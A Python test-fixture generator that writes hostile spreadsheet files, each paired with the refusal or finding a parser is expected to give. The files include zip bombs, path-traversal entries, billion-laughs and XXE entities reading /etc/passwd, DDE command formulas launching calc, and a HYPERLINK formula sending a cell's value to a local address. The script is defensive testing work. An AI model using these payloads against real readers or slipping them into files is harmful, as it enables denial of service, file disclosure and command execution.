#!/usr/bin/python3
"""Writes hostile spreadsheets, one of each kind that ever hurt a reader, and what each must
be answered with. Python's standard library only; the same bytes at each run.

    hostile.py DIR      the files, and DIR/expected.tsv: file, code

A code that begins with SHEET- refuses the file; any other is a finding at the cell or row,
beside which the rest of the file is read.
"""
import io
import os
import random
import struct
import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
OASIS = "urn:oasis:names:tc:opendocument:xmlns:"
HEAD = [["Mẫu số: Biểu 01/HTX"], ["Đơn vị báo cáo: Huyện Tân Uyên (mã 111)"],
        ["Kỳ báo cáo: 6 tháng đầu năm 2025"], ["Loại số liệu: thực hiện"]]
TABLE = ["STT", "Tên HTX", "Mã số thuế", "Loại hình", "Ngành, lĩnh vực",
         "Tình trạng hoạt động", "Số thành viên", "Lao động thường xuyên", "Doanh thu"]
GOOD = ["1", "HTX Nắng Mới", "6291110012", "HTX", "Nông nghiệp", "Đang hoạt động", "17", "15",
        "448"]
NAME, TAX, MEMBERS = 1, 2, 6


def escape(text):
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


def cell(text):
    return '<c t="inlineStr"><is><t>%s</t></is></c>' % escape(text)


def grid(rows):
    return "<sheetData>%s</sheetData>" % "".join(
        "<row>%s</row>" % "".join(c if c.startswith("<c") else cell(c) for c in row)
        for row in rows)


def one_row(**changes):
    """The good list with cells of its only row replaced: by text or by a ready <c>."""
    row = list(GOOD)
    for k, v in changes.items():
        row[{"name": NAME, "tax": TAX, "members": MEMBERS}[k]] = v
    return HEAD + [TABLE, row]


def sheet(data, prolog=""):
    return '%s<worksheet xmlns="%s">%s</worksheet>' % (prolog, MAIN, data)


def parts(data=None, **changed):
    """The parts of a workbook; a change of None leaves the part out."""
    p = {
        "[Content_Types].xml":
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": relations(("a", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": workbook([("Danh sách", "p1")]),
        "xl/_rels/workbook.xml.rels": relations(("p1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": sheet(data if data is not None else grid(one_row())),
    }
    names = {"top": "_rels/.rels", "book": "xl/workbook.xml", "page": "xl/worksheets/sheet1.xml",
             "rels": "xl/_rels/workbook.xml.rels", "strings": "xl/sharedStrings.xml",
             "styles": "xl/styles.xml"}
    for k, v in changed.items():
        p[names[k]] = v
    if changed.get("strings") or changed.get("styles"):
        p["xl/_rels/workbook.xml.rels"] = changed.get("rels") or relations(
            ("p1", "worksheet", "worksheets/sheet1.xml"),
            ("s", "sharedStrings", "sharedStrings.xml"), ("t", "styles", "styles.xml"))
        p.setdefault("xl/sharedStrings.xml", '<sst xmlns="%s"/>' % MAIN)
        p.setdefault("xl/styles.xml", '<styleSheet xmlns="%s"/>' % MAIN)
    return [(n, b) for n, b in p.items() if b is not None]


def workbook(pages):
    return ('<workbook xmlns="%s" xmlns:r="%s"><sheets>%s</sheets></workbook>' %
            (MAIN, REL, "".join('<sheet name="%s" sheetId="%d" r:id="%s"/>' % (n, i + 1, r)
                                for i, (n, r) in enumerate(pages))))


def relations(*rels):
    return '<Relationships xmlns="%s">%s</Relationships>' % (PKG, "".join(
        '<Relationship Id="%s" Type="%s/%s" Target="%s"%s/>' %
        (r[0], REL, r[1], r[2], r[3] if len(r) > 3 else "") for r in rels))


def pack(entries, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, body in entries:
            info = zipfile.ZipInfo(name, (2025, 6, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, body)
    return out.getvalue()


def xlsx(data=None, **changed):
    return pack(parts(data, **changed))


def ods(body, manifest=None, head="", extra=()):
    content = ('%s<office:document-content xmlns:office="%soffice:1.0" xmlns:table="%stable:1.0"'
               ' xmlns:text="%stext:1.0"><office:body>%s</office:body>'
               '</office:document-content>' % (head, OASIS, OASIS, OASIS, body))
    entries = [("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
               ("content.xml", content)]
    if manifest:
        entries.append(("META-INF/manifest.xml",
                        '<manifest:manifest xmlns:manifest="%smanifest:1.0">%s'
                        '</manifest:manifest>' % (OASIS, manifest)))
    return pack(entries + list(extra))


def table(rows, name="Danh sách", more=""):
    return ('<office:spreadsheet><table:table table:name="%s">%s%s</table:table>'
            '</office:spreadsheet>' % (name, more, "".join(
                "<table:table-row>%s</table:table-row>" % "".join(
                    c if c.startswith("<table:") else ods_cell(c) for c in row)
                for row in rows)))


def ods_cell(text):
    return ('<table:table-cell office:value-type="string"><text:p>%s</text:p>'
            '</table:table-cell>' % escape(text))


def ods_number(value, more=""):
    return '<table:table-cell office:value-type="float" office:value="%s"%s/>' % (value, more)


def number(value):
    return "<c><v>%s</v></c>" % value


def patched(data, old, new, count=None):
    """Every copy of old replaced; there must be some."""
    assert old in data and (count is None or data.count(old) == count), (old, data.count(old))
    return data.replace(old, new)


def entry_field(data, name, offset, value, size):
    """A field of the central directory's record of name set to value."""
    at = -1
    while True:
        at = data.index(b"PK\x01\x02", at + 1)
        n = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + n] == name:
            return data[:at + offset] + struct.pack("<I", value)[:size] + data[at + offset + size:]


def bomb_page(size):
    return '<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (MAIN, " " * size)


def containers():
    good = xlsx()
    page = b"xl/worksheets/sheet1.xml"
    yield "empty", b"", "SHEET-TRUNCATED"
    yield "pk-only", b"PK", "SHEET-TRUNCATED"
    yield "cut-in-half", good[:len(good) // 2], "SHEET-TRUNCATED"
    yield "cut-by-one", good[:-1], "SHEET-TRUNCATED"
    yield "no-directory", good[:good.index(b"PK\x01\x02")], "SHEET-TRUNCATED"
    yield "directory-only", good[good.index(b"PK\x01\x02"):], "SHEET-TRUNCATED"
    yield "bomb-one-part", xlsx(page=bomb_page(200 << 20)), "SHEET-BOMB"
    yield "bomb-many-parts", pack(parts() + [("xl/media/%d.xml" % i, " " * (8 << 20))
                                             for i in range(20)]), "SHEET-BOMB"
    lying = xlsx(page=bomb_page(120 << 20))
    size = struct.pack("<I", len(bomb_page(120 << 20)))
    yield "bomb-lying-size", patched(lying, size, struct.pack("<I", 5000)), "SHEET-BOMB"
    yield "bomb-strings", xlsx(strings="<sst xmlns='%s'>%s</sst>" % (MAIN, " " * (110 << 20))), \
        "SHEET-BOMB"
    size = struct.pack("<I", len(sheet(grid(one_row())).encode()))
    yield "size-2g", patched(good, size, struct.pack("<I", 0x7fffffff)), "SHEET-BOMB"
    yield "size-4g", patched(good, size, struct.pack("<I", 0xfffffffe)), "SHEET-BOMB"
    yield "size-in-directory-only", entry_field(good, page, 24, 0x7fffffff, 4), "SHEET-TRUNCATED"
    yield "compressed-size-lies", entry_field(good, page, 20, 0x7fffffff, 4), "SHEET-TRUNCATED"
    yield "wrong-crc", entry_field(good, page, 16, 0x12345678, 4), "SHEET-TRUNCATED"
    first = good.index(b"PK\x01\x02")
    yield "overlapping-entries", entry_field(good, page, 42, 0, 4), "SHEET-TRUNCATED"
    yield "offset-behind-end", entry_field(good, page, 42, len(good) + 99, 4), "SHEET-TRUNCATED"
    yield "offset-in-directory", entry_field(good, page, 42, first, 4), "SHEET-TRUNCATED"
    yield "entry-count-lies", good[:-12] + struct.pack("<H", 9) + good[-10:], "SHEET-TRUNCATED"
    yield "many-disks", good[:-18] + struct.pack("<H", 3) + good[-16:], "SHEET-TRUNCATED"
    body = bytearray(good)
    at = good.index(page) + len(page)
    body[at:at + 40] = b"\xff" * 40
    yield "broken-deflate", bytes(body), "SHEET-TRUNCATED"
    yield "2001-entries", pack(parts() + [("x/%d" % i, "") for i in range(2001)],
                               zipfile.ZIP_STORED), "SHEET-BOMB"
    yield "60000-entries", pack(parts() + [("x/%d" % i, "") for i in range(60000)],
                                zipfile.ZIP_STORED), "SHEET-BOMB"
    for name, other in (("dot-dot", "../evil.xml"), ("dot-dot-inside", "xl/../../evil.xml"),
                        ("absolute", "/etc/passwd"), ("backslash", "xl\\evil.xml"),
                        ("drive", "C:evil.xml"), ("long-name", "x" * 300),
                        ("control-in-name", "xl/e\x01vil.xml")):
        yield "path-" + name, pack(parts() + [(other, "x")]), "SHEET-PATH"
    twin = pack(parts() + [("xl/worksheets/sheet2.xml", sheet(grid(one_row(name="HTX Khác"))))])
    yield "duplicate-part", patched(twin, b"sheet2.xml", b"sheet1.xml", 2), "SHEET-PATH"
    yield "duplicate-part-by-case", patched(twin, b"sheet2.xml", b"Sheet1.xml", 2), "SHEET-PATH"
    yield "zip-password", patched(
        entry_field(good, page, 8, 1, 2), b"PK\x03\x04\x14\x00\x00\x00",
        b"PK\x03\x04\x14\x00\x01\x00"), "SHEET-ENCRYPTED"
    yield "bzip2", pack(parts(), zipfile.ZIP_BZIP2), "SHEET-FORMAT"
    yield "lzma", pack(parts(), zipfile.ZIP_LZMA), "SHEET-FORMAT"
    yield "no-workbook", pack([("a.txt", "a")]), "SHEET-FORMAT"
    yield "zip-in-zip", xlsx(book=good), "SHEET-FORMAT"
    yield "word-document", xlsx(book='<w:document xmlns:w="http://schemas.openxmlformats.org/'
                                'wordprocessingml/2006/main"/>'), "SHEET-FORMAT"


def markup():
    laughs = "<!DOCTYPE l [<!ENTITY a 'ha'>%s]>" % "".join(
        "<!ENTITY %s '%s'>" % (chr(98 + i), ("&%s;" % chr(97 + i)) * 10) for i in range(9))
    xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield "doctype-page", xlsx(page=sheet(grid(one_row()), "<!DOCTYPE worksheet>")), \
        "SHEET-DOCTYPE"
    yield "doctype-rels", xlsx(top="<!DOCTYPE r>" + parts()[1][1]), "SHEET-DOCTYPE"
    yield "doctype-workbook", xlsx(book="<!DOCTYPE r>" + parts()[2][1]), "SHEET-DOCTYPE"
    yield "doctype-styles", xlsx(styles="<!DOCTYPE s><styleSheet xmlns='%s'/>" % MAIN), \
        "SHEET-DOCTYPE"
    yield "billion-laughs", xlsx(strings=laughs + "<sst xmlns='%s'><si><t>&j;</t></si></sst>"
                                 % MAIN), "SHEET-DOCTYPE"
    yield "quadratic-blowup", xlsx(page=sheet(
        grid([["&a;" * 2000]]), "<!DOCTYPE x [<!ENTITY a '%s'>]>" % ("a" * 50000))), \
        "SHEET-DOCTYPE"
    yield "xxe-file", xlsx(page=sheet("<sheetData><row><c t='inlineStr'><is><t>&e;</t></is></c>"
                                      "</row></sheetData>", xxe)), "SHEET-DOCTYPE"
    yield "xxe-network", xlsx(page=sheet(grid(one_row()), '<!DOCTYPE x SYSTEM '
                                         '"http://127.0.0.1:9/x.dtd">')), "SHEET-DOCTYPE"
    yield "xxe-parameter", xlsx(page=sheet(grid(one_row()), '<!DOCTYPE x [<!ENTITY % p SYSTEM '
                                           '"http://127.0.0.1:9/x"> %p;]>')), "SHEET-DOCTYPE"
    yield "deep-page", xlsx("<a>" * 10000), "SHEET-DEPTH"
    yield "deep-strings", xlsx(strings="<sst xmlns='%s'>%s" % (MAIN, "<si>" * 5000)), \
        "SHEET-DEPTH"
    yield "deep-foreign", xlsx('<x xmlns="urn:x">' + "<y>" * 100), "SHEET-DEPTH"
    yield "not-closed", xlsx("<sheetData><row>"), "SHEET-FORMAT"
    bad = sheet(grid([["ZZZZ"]])).encode()
    yield "invalid-utf8", xlsx(page=bad.replace(b"ZZZZ", b"Z\xff\xfeZ")), \
        "SHEET-FORMAT"
    yield "overlong-utf8", xlsx(page=bad.replace(b"ZZZZ", b"\xc0\xbcZ")), "SHEET-FORMAT"
    yield "surrogate-utf8", xlsx(page=bad.replace(b"ZZZZ", b"\xed\xa0\x80Z")), "SHEET-FORMAT"
    yield "nul-in-text", xlsx(page=bad.replace(b"ZZZZ", b"Z\x00Z")), "SHEET-FORMAT"
    yield "nul-by-reference", xlsx("<sheetData><row><c t='inlineStr'><is><t>a&#0;b</t></is></c>"
                                   "</row></sheetData>"), "SHEET-FORMAT"
    yield "unknown-encoding", xlsx(page=sheet(grid(one_row()),
                                              '<?xml version="1.0" encoding="UTF-7"?>')), \
        "SHEET-FORMAT"
    yield "unknown-entity", xlsx("<sheetData>&nothing;</sheetData>"), "SHEET-FORMAT"
    yield "attribute-twice", xlsx('<sheetData><row r="1" r="2"/></sheetData>'), "SHEET-FORMAT"
    yield "prefix-unbound", xlsx("<x:sheetData/>"), "SHEET-FORMAT"
    yield "huge-attribute", xlsx('<sheetData a="%s"/>' % ("x" * (40 << 20))), "SHEET-SIZE"
    yield "huge-comment", xlsx("<!--%s-->" % ("x" * (40 << 20))), "SHEET-SIZE"
    yield "huge-name", xlsx("<%s/>" % ("x" * (40 << 20))), "SHEET-SIZE"
    yield "huge-cell", xlsx(grid([["x" * (20 << 20)]])), "SHEET-SIZE"


def structure():
    row = "<sheetData><row%s><c%s><v>1</v></c></row></sheetData>"
    yield "row-beyond", xlsx(row % (' r="1048577"', "")), "SHEET-FORMAT"
    yield "row-zero", xlsx(row % (' r="0"', "")), "SHEET-FORMAT"
    yield "row-overflow", xlsx(row % (' r="4294967297"', "")), "SHEET-FORMAT"
    yield "column-beyond", xlsx(row % (' r="1"', ' r="XFE1"')), "SHEET-FORMAT"
    yield "column-huge", xlsx(row % (' r="1"', ' r="ZZZZZZZ1"')), "SHEET-FORMAT"
    yield "cell-in-other-row", xlsx(row % (' r="1"', ' r="A7"')), "SHEET-FORMAT"
    yield "cell-type-unknown", xlsx(row % ("", ' t="zz"')), "SHEET-FORMAT"
    yield "cell-twice", xlsx('<sheetData>%s</sheetData>' % (
        '<row r="1"><c r="A1"><v>1</v></c></row>' * 2)), "SHEET-FORMAT"
    yield "million-rows", xlsx("<sheetData>%s</sheetData>" % (
        "<row><c><v>1</v></c></row>" * (1 << 20))), "SHEET-SIZE"
    yield "cells-without-end", xlsx("<sheetData>%s</sheetData>" % (
        ("<row>%s</row>" % ("<c><v>1</v></c>" * 16000)) * 40)), "SHEET-SIZE"
    yield "17000-columns", xlsx("<sheetData><row>%s</row></sheetData>" % (
        "<c><v>1</v></c>" * 17000)), "SHEET-SIZE"
    yield "merge-backwards", xlsx('<mergeCells><mergeCell ref="B2:A1"/></mergeCells>'), \
        "SHEET-FORMAT"
    yield "merges-without-end", xlsx("<mergeCells>%s</mergeCells>" % (
        '<mergeCell ref="A1:B2"/>' * 20001)), "SHEET-SIZE"
    yield "merges-over-merges", xlsx("<sheetData>%s</sheetData><mergeCells>%s</mergeCells>" % (
        ("<row>%s</row>" % ("<c><v>1</v></c>" * 100)) * 1000,
        '<mergeCell ref="A1:CV1000"/>' * 1000)), "SHEET-SIZE"
    text = '<sheetData><row><c t="s"><v>%s</v></c></row></sheetData>'
    strings = '<sst xmlns="%s"><si><t>a</t></si></sst>' % MAIN
    for name, i in (("beyond", "1"), ("negative", "-1"), ("hex", "0x0"), ("huge", "9" * 40)):
        yield "string-" + name, xlsx(text % i, strings=strings), "SHEET-STRINGS"
    yield "string-without-table", xlsx(text % "0"), "SHEET-STRINGS"
    yield "strings-amplified", xlsx(
        "<sheetData>%s</sheetData>" % ('<row><c t="s"><v>0</v></c></row>' * 2000),
        strings='<sst xmlns="%s"><si><t>%s</t></si></sst>' % (MAIN, "ế" * 20000)), "SHEET-SIZE"
    yield "strings-without-end", xlsx(text % "0", strings='<sst xmlns="%s">%s</sst>' % (
        MAIN, "<si><t>a</t></si>" * 500001)), "SHEET-SIZE"
    yield "formats-without-end", xlsx(styles='<styleSheet xmlns="%s"><cellXfs>%s</cellXfs>'
                                      "</styleSheet>" % (MAIN, "<xf/>" * 70000)), "SHEET-SIZE"
    yield "65-pages", xlsx(book=workbook([("T%d" % i, "p1") for i in range(65)])), "SHEET-SIZE"
    yield "page-name-huge", xlsx(book=workbook([("T" * 5000, "p1")])), "SHEET-SIZE"
    yield "part-missing", xlsx(page=None), "SHEET-TRUNCATED"
    yield "workbook-missing", xlsx(book=None), "SHEET-TRUNCATED"
    yield "rels-missing", xlsx(rels=None), "SHEET-TRUNCATED"
    yield "rels-leave", xlsx(rels=relations(("p1", "worksheet", "../../../etc/passwd"))), \
        "SHEET-PATH"
    yield "rels-external", xlsx(rels=relations(
        ("p1", "worksheet", "http://127.0.0.1:9/x", ' TargetMode="External"'))), \
        "SHEET-TRUNCATED"
    yield "rels-without-end", xlsx(rels=relations(*[("p%d" % i, "worksheet", "x%d" % i)
                                                    for i in range(2500)])), "SHEET-BOMB"
    yield "rels-loop", xlsx(rels=relations(("p1", "worksheet", "workbook.xml"))), "NO_FORM"
    yield "no-pages", xlsx(book=workbook([])), "SHEET-FORMAT"
    yield "foreign-workbook", xlsx(book='<workbook xmlns="urn:x"/>'), "SHEET-FORMAT"


def opendocument():
    good = ods(table(one_row()))
    rows = table(one_row())
    yield "ods-cut", good[:len(good) // 2], "SHEET-TRUNCATED"
    yield "ods-no-content", pack([("mimetype", "application/vnd.oasis.opendocument."
                                   "spreadsheet")]), "SHEET-TRUNCATED"
    yield "ods-bomb", ods(rows + " " * (120 << 20)), "SHEET-BOMB"
    yield "ods-xxe", ods(rows, head='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), \
        "SHEET-DOCTYPE"
    yield "ods-password", ods("", manifest='<manifest:file-entry manifest:full-path='
                              '"content.xml"><manifest:encryption-data/>'
                              '</manifest:file-entry>'), "SHEET-ENCRYPTED"
    yield "ods-repeated-rows", ods(table([], more='<table:table-row table:number-rows-repeated='
                                         '"1048576">%s</table:table-row>' % ods_cell("a"))), \
        "SHEET-SIZE"
    yield "ods-repeated-columns", ods(table([[ods_number(
        1, ' table:number-columns-repeated="4000000000"')]])), "SHEET-SIZE"
    yield "ods-square", ods(table([], more='<table:table-row table:number-rows-repeated='
                                  '"1048576">%s</table:table-row>' % ods_number(
                                      1, ' table:number-columns-repeated="16384"'))), "SHEET-SIZE"
    yield "ods-spaces", ods(table([['<table:table-cell office:value-type="string"><text:p>%s'
                                    '</text:p></table:table-cell>' %
                                    ('<text:s text:c="1000000000"/>' * 500)]])), "SHEET-SIZE"
    yield "ods-span", ods(table([['<table:table-cell table:number-columns-spanned="99999"/>']])), \
        "SHEET-FORMAT"
    yield "ods-deep", ods(table([['<table:table-cell><text:p>' + "<text:span>" * 9000]])), \
        "SHEET-DEPTH"
    yield "ods-path", ods(rows, extra=[("../evil", "x")]), "SHEET-PATH"
    yield "ods-text-document", ods("<office:text/>"), "SHEET-FORMAT"
    yield "ods-65-pages", ods("<office:spreadsheet>%s</office:spreadsheet>" % (
        '<table:table table:name="T"/>' * 65)), "SHEET-SIZE"
    yield "ods-linked-page-only", ods(table(one_row(), more="<table:table-source/>")), \
        "SHEET-FORMAT"
    for name, value in (("nan", "NaN"), ("1e308", "1e308")):
        yield "ods-" + name, ods(table(one_row(members=ods_number(value)))), "CELL_ERROR"
    yield "ods-formula-no-value", ods(table(one_row(
        members='<table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)"/>'))), \
        "CELL_FORMULA"


def cells():
    for name, value in (("nan", "NaN"), ("inf", "INF"), ("minus-inf", "-Infinity"),
                        ("1e308", "1e308"), ("1e999", "1e999"), ("hex", "0x1F"),
                        ("words", "12 345")):
        yield "number-" + name, xlsx(grid(one_row(members=number(value)))), "CELL_ERROR"
    yield "number-1e20", xlsx(grid(one_row(members=number("1e20")))), "NUMBER_RANGE"
    yield "number-400-digits", xlsx(grid(one_row(members="9" * 400))), "NUMBER_RANGE"
    yield "number-minus", xlsx(grid(one_row(members=number("-17")))), "NEGATIVE_COUNT"
    yield "number-error", xlsx(grid(one_row(members='<c t="e"><v>#REF!</v></c>'))), "CELL_ERROR"
    yield "number-boolean", xlsx(grid(one_row(members='<c t="b"><v>1</v></c>'))), "NUMBER_BAD"
    yield "number-wide-digits", xlsx(grid(one_row(members="１７"))), "NUMBER_BAD"
    yield "number-zero-width", xlsx(grid(one_row(members="1\u200b7"))), "NUMBER_UNIT"
    yield "formula-no-value", xlsx(grid(one_row(members="<c><f>1+1</f></c>"))), "CELL_FORMULA"
    yield "formula-external", xlsx(grid(one_row(
        members="<c><f>'\\\\evil\\[x.xlsx]T'!A1</f></c>"))), "CELL_FORMULA"
    yield "formula-text-number", xlsx(grid(one_row(members="=1+1"))), "NUMBER_BAD"
    for name, text in (("command", "=cmd|' /C calc'!A0"), ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
                       ("plus", "+cmd|' /C calc'!A0"), ("minus", "-2+3+cmd|' /C calc'!A0"),
                       ("link", '=HYPERLINK("http://127.0.0.1:9/?"&A1,"HTX")'),
                       ("wide", "＝cmd|' /C calc'!A0")):
        yield "formula-name-" + name, xlsx(grid(one_row(name=text))), "TEXT_FORMULA"
    for name, c in (("bidi", "\u202e"), ("isolate", "\u2067"), ("zero-width", "\u200b"),
                    ("joiner", "\u200d"), ("soft-hyphen", "\u00ad"), ("byte-order", "\ufeff")):
        yield "tax-" + name, xlsx(grid(one_row(tax="62911" + c + "10012"))), "HIDDEN_CHARACTER"
        yield "name-" + name, xlsx(grid(one_row(name="HTX Nắng" + c + " Mới"))), \
            "HIDDEN_CHARACTER"
    yield "name-control", xlsx(grid(one_row(name="HTX Nắng_x0007_ Mới"))), "HIDDEN_CHARACTER"
    yield "tax-cyrillic", xlsx(grid(one_row(tax="62911100l2"))), "TAX_LENGTH"
    yield "name-mojibake", xlsx(grid(one_row(name="HTX CỘNG HÒA XàHỘI"))), "TEXT_DAMAGED"


def others():
    rng = random.Random(7)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    csv = "\n".join(";".join(r) for r in one_row()) + "\n"
    yield "xls", ole + b"\0" * 600 + "Workbook".encode("utf-16-le"), "SHEET-OLE"
    yield "xlsx-password", ole + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), \
        "SHEET-ENCRYPTED"
    yield "pdf", b"%PDF-1.7\n", "SHEET-FORMAT"
    yield "rtf", b"{\\rtf1 x}", "SHEET-FORMAT"
    yield "html-as-xls", b"<html><table><tr><td>1</td></tr></table></html>", "SHEET-FORMAT"
    yield "xml-2003", b'<?xml version="1.0"?><Workbook/>', "SHEET-FORMAT"
    yield "png", b"\x89PNG\r\n\x1a\n" + bytes(100), "SHEET-FORMAT"
    yield "program", b"MZ" + bytes(rng.randrange(256) for _ in range(2000)) + bytes(9), \
        "SHEET-FORMAT"
    yield "csv-nul", csv.encode() + b"\0\xff", "SHEET-FORMAT"
    yield "csv-invalid-utf8", csv.encode() + b"\xff\xfe\xc3;\xe1\xba;\x80", "SHEET-ENCODING"
    yield "csv-quote-open", (csv + '2;"HTX').encode(), "SHEET-CSV"
    yield "csv-quote-inside", (csv + '2;HTX "A"\n').encode(), "SHEET-CSV"
    yield "csv-huge-cell", csv.encode() + b"x" * (12 << 20), "SHEET-SIZE"
    yield "csv-million-rows", csv.encode() + b"1\n" * (1 << 20), "SHEET-SIZE"
    yield "csv-17000-columns", csv.encode() + b"1;" * 17000, "SHEET-SIZE"
    yield "csv-17-mb", csv.encode() + b" " * (17 << 20), "SHEET-SIZE"
    yield "csv-half-pair", b"\xff\xfe" + csv.encode("utf-16-le") + b"\x00\xd8", "SHEET-ENCODING"
    yield "csv-odd-utf16", b"\xff\xfe" + csv.encode("utf-16-le") + b"a", "SHEET-ENCODING"
    yield "csv-lost-letters", csv.encode("ascii", "replace"), "SHEET-ENCODING"


def cases():
    for group in (containers, markup, structure, opendocument, cells, others):
        yield from group()


def main():
    folder = sys.argv[1]
    with open(os.path.join(folder, "expected.tsv"), "w", encoding="utf-8") as listing:
        for name, data, code in cases():
            kind = name.split("-")[0] if name.split("-")[0] in ("ods", "csv") else "xlsx"
            with open(os.path.join(folder, name + "." + kind), "wb") as f:
                f.write(data)
            listing.write("%s.%s\t%s\n" % (name, kind, code))


if __name__ == "__main__":
    main()
